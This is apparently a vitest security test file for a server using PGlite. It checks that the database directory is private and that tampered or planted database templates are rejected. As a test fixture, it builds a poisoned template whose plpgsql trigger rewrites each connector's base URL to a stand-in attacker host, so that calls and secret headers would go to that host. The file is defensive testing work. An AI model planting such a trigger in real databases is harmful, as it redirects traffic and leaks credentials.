import { createHash } from "node:crypto";
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiClient } from "../../src/clients/index.js";
import { migrate } from "../../src/server/db/migrate.js";
import { openPgliteDatabase } from "../../src/server/db/pgliteDatabase.js";
import { templateKey } from "../../src/server/db/pgliteTemplate.js";
import { startTestServer } from "../support/testServer.js";

const SEEDED_PROJECT = "a1b2c3d4-e5f6-7890-abcd-ef1234567890";
const ATTACKER_URL = "http://attacker.invalid:8123";

/** Every path under `dir` (itself included) whose mode lets anyone but its owner in. */
function openToOthers(dir: string): string[] {
  const found: string[] = [];
  const walk = (path: string) => {
    const stat = lstatSync(path);
    if (stat.isSymbolicLink()) return;
    if ((stat.mode & 0o077) !== 0) found.push(`${path} ${(stat.mode & 0o777).toString(8)}`);
    if (stat.isDirectory()) for (const name of readdirSync(path)) walk(join(path, name));
  };
  walk(dir);
  return found;
}

function loosen(path: string): void {
  const stat = lstatSync(path);
  chmodSync(path, stat.isDirectory() ? 0o777 : 0o666);
  if (stat.isDirectory()) for (const name of readdirSync(path)) loosen(join(path, name));
}

/** Creates a connector through the API and reads back its baseUrl. */
async function storedBaseUrl(evalstudioUrl: string): Promise<string | undefined> {
  const client = createApiClient("evalstudio", { baseUrl: evalstudioUrl });
  const created = await client.POST("/projects/{projectId}/connectors", {
    params: { path: { projectId: SEEDED_PROJECT } },
    body: { name: `c-${Date.now()}-${Math.random()}`, type: "langgraph", baseUrl: "http://localhost:8123", config: { assistantId: "a" } },
  });
  expect(created.response.status).toBe(201);
  const read = await client.GET("/projects/{projectId}/connectors/{id}", { params: { path: { projectId: SEEDED_PROJECT, id: created.data!.id } } });
  return read.data?.baseUrl;
}

describe("the PGlite data directory is private to its user", () => {
  let root: string;
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), "cc-at-rest-"));
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("a new directory is 0700 with files 0600; one left open by an older version is tightened at start", async () => {
    const dir = join(root, "pglite");
    const first = await startTestServer({ env: { PGLITE_DIR: dir } });
    expect((lstatSync(dir).mode & 0o777).toString(8)).toBe("700");
    expect(openToOthers(dir)).toEqual([]);
    expect(await storedBaseUrl(first.apiUrls.evalstudio!)).toBe("http://localhost:8123");
    await first.stop();
    expect(openToOthers(dir)).toEqual([]);

    // As PGlite's WASM file system used to leave it: everything world-writable.
    loosen(dir);
    expect(openToOthers(dir).length).toBeGreaterThan(100);
    const second = await startTestServer({ env: { PGLITE_DIR: dir } });
    try {
      expect(openToOthers(dir)).toEqual([]);
      expect(await storedBaseUrl(second.apiUrls.evalstudio!)).toBe("http://localhost:8123");
    } finally {
      await second.stop();
    }
    expect(openToOthers(dir)).toEqual([]);
  }, 180_000);
});

describe("a planted PGlite template is never used", () => {
  let poisoned: Buffer;
  let root: string;
  const key = templateKey();
  const oldDir = join(tmpdir(), "connector-contracts-pglite-templates");
  const oldFile = join(oldDir, `${key}.tar.gz`);
  let oldFileBefore: Buffer | undefined;

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), "cc-templates-"));
    // The attacker's template: a real, migrated database with a trigger that sends every
    // connector's calls (and its secret headers) to their server.
    const db = await openPgliteDatabase();
    try {
      await migrate(db);
      await db.query(`create function poison() returns trigger language plpgsql as $$ begin new.base_url := '${ATTACKER_URL}'; return new; end $$`);
      await db.query("create trigger poison before insert or update on evalstudio_connectors for each row execute function poison()");
      poisoned = Buffer.from(await (await db.dump()).arrayBuffer());
    } finally {
      await db.close();
    }
    // It works: a database started from it rewrites a new connector's baseUrl.
    const victim = await openPgliteDatabase(undefined, new Uint8Array(poisoned).buffer);
    try {
      await victim.query("insert into evalstudio_projects (id, name) values ($1, 'p')", [SEEDED_PROJECT]).catch(() => undefined);
      const [row] = await victim.query<{ base_url: string }>(
        "insert into evalstudio_connectors (id, project_id, name, type, base_url) values (gen_random_uuid(), $1, 'n', 'langgraph', 'http://localhost:8123') returning base_url",
        [SEEDED_PROJECT],
      );
      expect(row!.base_url).toBe(ATTACKER_URL);
    } finally {
      await victim.close();
    }
    oldFileBefore = existsSync(oldFile) ? readFileSync(oldFile) : undefined;
  }, 120_000);

  afterAll(() => {
    if (oldFileBefore) writeFileSync(oldFile, oldFileBefore);
    else rmSync(oldFile, { force: true });
    rmSync(root, { recursive: true, force: true });
  });

  it("not from the shared temp directory (where it used to live), nor from the private directory without its recorded hash", async () => {
    mkdirSync(oldDir, { recursive: true });
    writeFileSync(oldFile, poisoned);
    const templateDir = join(root, "private");
    mkdirSync(templateDir, { mode: 0o700 });
    writeFileSync(join(templateDir, `${key}.tar.gz`), poisoned, { mode: 0o600 });
    writeFileSync(join(templateDir, `${key}.sha256`), createHash("sha256").update("something else").digest("hex"), { mode: 0o600 });

    const server = await startTestServer({ env: { PGLITE_DIR: "memory", PGLITE_TEMPLATE_DIR: templateDir } });
    try {
      expect(await storedBaseUrl(server.apiUrls.evalstudio!)).toBe("http://localhost:8123");
    } finally {
      await server.stop();
    }
    // Rebuilt: the directory now holds a template whose hash matches its bytes, and it is not the planted one.
    const rebuilt = readFileSync(join(templateDir, `${key}.tar.gz`));
    expect(rebuilt.equals(poisoned)).toBe(false);
    expect(readFileSync(join(templateDir, `${key}.sha256`), "utf8")).toBe(createHash("sha256").update(rebuilt).digest("hex"));
    expect(openToOthers(templateDir)).toEqual([]);
  }, 120_000);

  it("not from a template directory others could write to, even with a matching hash", async () => {
    const templateDir = join(root, "open");
    mkdirSync(templateDir);
    chmodSync(templateDir, 0o777);
    writeFileSync(join(templateDir, `${key}.tar.gz`), poisoned, { mode: 0o600 });
    writeFileSync(join(templateDir, `${key}.sha256`), createHash("sha256").update(poisoned).digest("hex"), { mode: 0o600 });

    const server = await startTestServer({ env: { PGLITE_DIR: "memory", PGLITE_TEMPLATE_DIR: templateDir } });
    try {
      expect(await storedBaseUrl(server.apiUrls.evalstudio!)).toBe("http://localhost:8123");
    } finally {
      await server.stop();
    }
    expect((lstatSync(templateDir).mode & 0o777).toString(8)).toBe("700");
  }, 120_000);
});
